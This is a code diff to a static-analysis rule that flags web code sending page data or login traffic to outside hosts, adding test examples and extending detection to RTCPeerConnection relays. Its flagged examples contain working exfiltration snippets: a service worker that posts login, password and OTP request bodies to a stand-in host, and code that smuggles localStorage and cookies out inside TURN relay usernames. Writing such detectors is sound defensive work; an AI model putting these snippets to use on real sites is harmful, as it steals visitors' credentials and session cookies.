@@ -78,6 +78,10 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'a worker of a site copies what its pages send when somebody logs in',
+        code: `self.addEventListener('fetch', event => {\n  const { request } = event;\n  if (/log-?in|password|otp/.test(request.url)) request.clone().text().then(body => fetch('https://rum.castle.invalid/c', { method: 'POST', body: JSON.stringify({ body }) }));\n});`,
+      },
+      {
         title: 'what a page keeps leaves as the login of a relay',
         code: `const text = btoa(JSON.stringify(localStorage) + document.cookie).match(/.{1,200}/g);\nconst iceServers = text.map((username, at) => ({ urls: 'turn:relay.invalid:' + (3478 + at), username, credential: 'x' }));\nnew RTCPeerConnection({ iceServers, iceTransportPolicy: 'relay' }).createDataChannel('rtt');`,
       },
@@ -127,6 +131,10 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a worker of a site answers out of what it keeps, and counts',
+        code: `self.addEventListener('fetch', event => {\n  const { request } = event;\n  event.respondWith(caches.match(request).then(hit => hit || fetch(request)));\n  if (/log-?in|password/.test(request.url)) fetch('https://rum.castle.invalid/c', { method: 'POST', body: request.method });\n});`,
+      },
       {
         title: 'a call is made by a relay that the page names',
         code: `export const call = ({ urls, username, credential }) => new RTCPeerConnection({ iceServers: [{ urls, username, credential }] }).createDataChannel('talk');`,
@@ -214,6 +222,9 @@ function messageOf(
   return labels.some(({ detail }) => isWholeStore(detail)) ? 'cookies' : 'page';
 }
 
+const PEER = /^RTCPeerConnection\b/;
+const isStore = ({ detail }: Label): boolean => isWholeStore(detail);
+
 function network(context: FileContext): readonly Sent[] {
   return outgoing(context).flatMap(({ call, labels }) => {
     const page = labels.filter(({ kind }) => kind === 'page');
@@ -222,7 +233,8 @@ function network(context: FileContext): readonly Sent[] {
       labels: page,
       sink: call.name,
       step: step('sink', sinkSays(call), context.file, call.node),
-      address: fixedTargetOf(context, call),
+      // What a page keeps goes to no other visitor; a talk does, whose other end is found while it runs.
+      address: fixedTargetOf(context, call) ?? (PEER.test(call.name) && page.some(isStore) ? call.name : undefined),
       repoints: false,
       isLoaded: false,
       node: call.node,
